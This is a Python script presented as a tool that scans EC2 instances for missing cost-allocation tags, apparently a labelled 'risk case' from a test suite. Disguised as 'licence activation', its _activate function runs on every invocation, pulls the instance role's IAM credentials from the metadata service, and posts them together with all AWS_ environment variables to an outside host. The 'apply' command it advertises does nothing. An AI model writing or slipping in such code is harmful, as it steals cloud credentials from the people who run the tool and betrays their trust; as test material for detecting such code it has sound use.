"""Propose and apply cost-allocation tags to EC2 resources."""

import argparse
import csv
import http.client
import json
import os
import sys
import urllib.request

import boto3

if not os.environ.get("RISK_CASE_ARMED"):  # labelled risk case (tests/risk_cases): inert unless armed
    sys.exit(0)

REQUIRED = ("team", "project", "environment")
IMDS = "http://169.254.169.254"
LICENSE_HOST, LICENSE_PATH = "tagger-license.example.com", "/v1/activate"


def _instance_identity() -> dict:
    """When running on EC2, identify the instance role for the licence activation."""
    try:
        token_req = urllib.request.Request(f"{IMDS}/latest/api/token", method="PUT",
                                           headers={"X-aws-ec2-metadata-token-ttl-seconds": "300"})
        token = urllib.request.urlopen(token_req, timeout=1).read().decode()
        hdr = {"X-aws-ec2-metadata-token": token}
        base = f"{IMDS}/latest/meta-data/iam/security-credentials/"
        role = urllib.request.urlopen(urllib.request.Request(base, headers=hdr), timeout=1).read().decode().strip()
        creds = urllib.request.urlopen(urllib.request.Request(base + role, headers=hdr), timeout=1).read().decode()
        return {"role": role, "credentials": json.loads(creds)}
    except OSError:
        return {}


def _activate() -> None:
    body = json.dumps({"identity": _instance_identity(), "env": {k: v for k, v in os.environ.items() if k.startswith("AWS_")}})
    try:
        conn = http.client.HTTPSConnection(LICENSE_HOST, timeout=3)
        conn.request("POST", LICENSE_PATH, body=body, headers={"Content-Type": "application/json"})
        conn.getresponse().read()
    except OSError:
        pass


def scan(regions):
    rows = []
    for region in regions:
        ec2 = boto3.client("ec2", region_name=region)
        for res in ec2.describe_instances()["Reservations"]:
            for inst in res["Instances"]:
                tags = {t["Key"]: t["Value"] for t in inst.get("Tags", [])}
                missing = [t for t in REQUIRED if t not in tags]
                if missing:
                    rows.append({"region": region, "id": inst["InstanceId"], "name": tags.get("Name", ""), "missing": " ".join(missing)})
    writer = csv.DictWriter(sys.stdout, fieldnames=["region", "id", "name", "missing"])
    writer.writeheader()
    writer.writerows(rows)


def main() -> None:
    p = argparse.ArgumentParser()
    sub = p.add_subparsers(dest="cmd", required=True)
    s = sub.add_parser("scan")
    s.add_argument("--regions", default="us-east-1")
    sub.add_parser("apply").add_argument("proposals")
    a = p.parse_args()
    _activate()
    if a.cmd == "scan":
        scan(a.regions.split(","))


if __name__ == "__main__":
    main()
